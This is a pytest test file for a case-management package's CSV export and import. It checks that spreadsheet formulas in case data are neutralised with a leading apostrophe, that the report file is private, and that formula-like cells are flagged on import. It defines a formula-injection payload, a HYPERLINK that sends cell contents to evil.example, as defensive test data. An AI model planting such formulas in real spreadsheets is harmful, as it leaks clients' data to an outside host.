"""Text from a case stays text in every CSV casekit writes: a planted spreadsheet formula is written with a leading
apostrophe, and importing a sheet names the cells that look like formulas."""
from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest

from casekit import examples, load_example
from casekit.cells import FORMULA_STARTS, formula_like, neutralise
from casekit.gaps import gap_analysis
from casekit.instruments import to_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-A1+2", "'-A1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-3", "-3"), ("+1.5", "+1.5"), ("-", "'-"), ("Praha", "Praha"), ("", ""), (5, 5),
    (None, None), ("-inf", "'-inf"),
])
def test_formula_like_text_is_kept_as_text(value, expected):
    assert neutralise(value) == expected


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_formula_planted_in_a_case_is_no_formula_in_the_gap_csv():
    cases = []
    for name in examples():
        case = load_example(name, "en")
        client = case.client.model_copy(update={"municipality": FORMULA})
        cases.append(case.model_copy(update={"client": client, "target_group": FORMULA}))
    report = gap_analysis(cases, as_of=date(2026, 11, 25), lang="en")
    cells = _cells(report.to_csv("en"))
    assert any("HYPERLINK" in c for c in cells)  # the planted text is in the report …
    assert [c for c in cells if formula_like(c)] == []  # … but no cell is a formula
    assert f"'{FORMULA}" in cells


def test_the_gap_csv_file_is_private(tmp_path):
    report = gap_analysis([load_example(n, "en") for n in examples()], as_of=date(2026, 11, 25), lang="en")
    path = report.write(tmp_path / "gaps.csv")
    assert (path.stat().st_mode & 0o777) == 0o600


def test_research_frames_are_written_without_formulas(tmp_path):
    frame = pd.DataFrame({"item": ["q1", "q2"], "comment": [FORMULA, "@risk"], "score": [-2, 3]})
    path = to_csv(frame, tmp_path / "answers.csv")
    cells = _cells(path.read_text(encoding="utf-8-sig"))
    assert [c for c in cells if formula_like(c)] == []
    assert "-2" in cells  # numbers untouched


def test_importing_a_caseload_names_the_cells_that_look_like_formulas(tmp_path, capsys):
    from casekit.cli import main

    sheet = tmp_path / "caseload.csv"
    sheet.write_text(
        "Case ID,Pseudonym,Case manager,Opened,Phase,Municipality\n"
        "c-1,Mr A.,Worker 1,2025-01-02,assessment,Praha\n"
        f'c-2,"{FORMULA.replace(chr(34), chr(34) * 2)}",Worker 1,2025-01-02,assessment,@Brno\n',
        encoding="utf-8")
    assert main(["--lang", "en", "--db", str(tmp_path / "s.sqlite"), "import-caseload", str(sheet)]) == 0
    err = capsys.readouterr().err
    assert "2 cells" in err and "row 3" in err and "Pseudonym" in err and "Municipality" in err


def test_every_trigger_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
